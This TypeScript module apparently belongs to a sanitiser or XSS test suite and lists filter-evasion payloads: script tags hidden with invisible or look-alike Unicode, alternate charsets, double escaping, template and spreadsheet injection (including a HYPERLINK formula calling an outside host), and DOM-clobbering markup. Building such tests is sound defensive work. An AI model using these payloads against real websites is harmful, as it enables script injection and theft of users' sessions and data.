import { inReferences, inText, type PayloadClass } from "../PayloadClass.ts"

const nul = String.fromCharCode(0)

/** Texts that become something else when they are decoded, normalised, looked up or rendered again. */
export const disguises: ReadonlyArray<PayloadClass> = [
  {
    name: "characters that vanish or are replaced",
    place: inText,
    effect: "script",
    payloads: [
      call => `${nul}<${nul}script>${call}</script>`,
      call => `<img${nul}src=x: onerror=${call}><img src=x: onerror=${call}>`,
      call => `\uD800<img src=x: onerror=${call}>\uDC00`,
      call => `\u202E<script>${call}</script>\u202C`,
      call => `\uFEFF<svg onload=${call}>`,
      call => `\u200B<sv\u00ADg><svg onload=${call}>\u2060`,
      call => `<script>\u2028${call}\u2029</script>`,
      call => `Z${"\u0301".repeat(300)}<svg onload=${call}>`
    ]
  },
  {
    name: "other characters that look like markup",
    place: inText,
    effect: null,
    payloads: [
      call => `\uFF1Cscript\uFF1E${call}\uFF1C/script\uFF1E`,
      call => `\uFE64img src=x: onerror=${call}\uFE65`,
      call => `\u2039svg onload=${call}\u203A`,
      call => `\u02BAonclick=${call}\u02BA`,
      call => `\u0130<ſcript>${call}</ſcript>`,
      call => `<\u017Fvg onload=${call}>`,
      call => `<\u212Aeygen autofocus>${call}`
    ]
  },
  {
    name: "markup in another charset",
    place: inText,
    effect: null,
    payloads: [
      call => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
      call => `\u00C0\u00BCscript\u00C0\u00BE${call}`,
      call => `\u00F0\u0080\u0080\u00BCimg onerror=${call}`,
      call => `\u001B$B<script>${call}</script>\u001B(B`.replaceAll("<", "\u001B(J\u005C"),
      call => `~{<script>${call}`.replace("<", "\u3C73"),
      call => `%3Cscript%3E${call}%3C/script%3E`,
      call => `%253Cscript%253E${call}%253C%252Fscript%253E`
    ]
  },
  {
    name: "markup that was escaped before",
    place: payload => inText(payload.replaceAll("&lt;", "<").replaceAll("&gt;", ">")),
    effect: "script",
    payloads: [
      call => `&lt;script&gt;${call}&lt;/script&gt;`,
      call => `&lt;img src=x: onerror=${call}&gt;`,
      call => `&amp;lt;svg onload=${call}&amp;gt;`,
      call => inReferences(`<svg onload=${call}>`),
      call => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
      call => `\\x3csvg onload=${call}\\x3e`
    ]
  },
  {
    name: "templates and spreadsheets",
    place: inText,
    effect: null,
    payloads: [
      call => `{{constructor.constructor('${call}')()}}`,
      call => `${"$"}{${call}}`,
      call => `#{${call}}<%= ${call} %>`,
      call => `[[${call}]] {% raw %} <% ${call} %>`,
      call => `<b v-html="${call}" x-init="${call}" ng-init="${call}" hx-on:load="${call}">x</b>`,
      (_, outside) => `=HYPERLINK("http:${outside}")`,
      call => `[x](javascript:${call}) ![x](x"onerror="${call})`
    ]
  },
  {
    name: "names that take the place of others",
    place: payload =>
      `${payload}<script>if (window.settings?.href) eval(unescape(settings.href.slice(4)))</script>`,
    effect: "script",
    payloads: [
      call => `<a id=settings href="cid:${call}">x</a>`,
      () => "<form id=body name=getElementById><input name=attributes><input name=parentNode></form>",
      () => "<img name=currentScript><img name=cookie><a id=report></a><a id=note-1 name=use-1-1></a>",
      () => "<iframe name=top></iframe><a id=self></a><a id=self name=location></a>",
      () => "report",
      () => "note-1",
      () => "__proto__"
    ]
  }
]
